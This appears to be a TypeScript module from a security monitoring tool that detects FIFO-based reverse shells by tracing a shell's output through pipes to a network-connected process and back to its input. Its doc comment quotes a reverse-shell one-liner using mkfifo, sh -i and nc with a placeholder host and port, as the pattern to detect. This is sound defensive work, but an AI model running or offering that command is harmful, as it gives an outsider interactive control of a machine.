import type { ProcessFact } from "../../facts/process.ts";
import type { ByteString } from "../../text/byteString.ts";
import { programName } from "../programName.ts";

/**
 * Finds the network program of `mkfifo f; cat f | sh -i 2>&1 | nc host port > f`: the
 * output of the shell arrives there, directly or through others, and its output comes
 * back as the input of the shell. A pipeline that only goes one way is no loop.
 *
 * @param holdsConnection whether a process has a network connection
 */
export function findRelayLoop(
  shell: ProcessFact,
  processes: readonly ProcessFact[],
  holdsConnection: (process: ProcessFact) => boolean,
): ProcessFact | undefined {
  const [input] = shell.standardStreams;
  if (!isChannel(input) || !outputsOf(shell).some(isChannel)) return undefined;
  const readers = readersByChannel(processes);
  // Breadth first from the shell's output; whoever is reached passes the stream on.
  const before = new Map<ProcessFact, ProcessFact>();
  let front: readonly ProcessFact[] = [shell];
  for (let step = 0; step < 6 && front.length > 0 && before.size < 256; step += 1) {
    const next: ProcessFact[] = [];
    for (const process of front) {
      for (const stream of outputsOf(process)) {
        if (!isChannel(stream)) continue;
        if (stream === input && process !== shell) {
          const relay = pathTo(process, before).find(holdsConnection);
          if (relay !== undefined) return relay;
        }
        for (const reader of readers.get(stream) ?? []) {
          if (reader === shell || before.has(reader)) continue;
          before.set(reader, process);
          next.push(reader);
        }
      }
    }
    front = next;
  }
  return undefined;
}

function readersByChannel(processes: readonly ProcessFact[]): ReadonlyMap<ByteString, readonly ProcessFact[]> {
  const readers = new Map<ByteString, ProcessFact[]>();
  for (const process of processes) {
    const inputs = new Set([process.standardStreams[0]].filter(isChannel));
    // `cat f` has its file as another descriptor. Other programs open logs and data there.
    if (passers.has(programName(process))) for (const path of process.openFiles) inputs.add(path);
    for (const stream of inputs) {
      const others = readers.get(stream);
      if (others === undefined) readers.set(stream, [process]);
      else others.push(process);
    }
  }
  return readers;
}

/** Programs that hand on what they read. */
const passers = new Set(["cat", "tail", "tee", "dd", "head", "sed", "grep", "stdbuf"]);

function pathTo(process: ProcessFact, before: ReadonlyMap<ProcessFact, ProcessFact>): readonly ProcessFact[] {
  const path: ProcessFact[] = [];
  let current: ProcessFact | undefined = process;
  while (current !== undefined && before.has(current) && path.length < 16) {
    path.push(current);
    current = before.get(current);
  }
  return path;
}

function outputsOf({ standardStreams: [, output, errors] }: ProcessFact): readonly (ByteString | undefined)[] {
  return output === errors ? [output] : [output, errors];
}

/** A pipe, or a path: a FIFO with a name shows as its path, and so do terminals and devices, which are no channel. */
function isChannel(stream: ByteString | undefined): stream is ByteString {
  if (stream === undefined) return false;
  return stream.startsWith("pipe:[") || (stream.startsWith("/") && !/^\/dev\/(?!shm\/)/.test(stream));
}
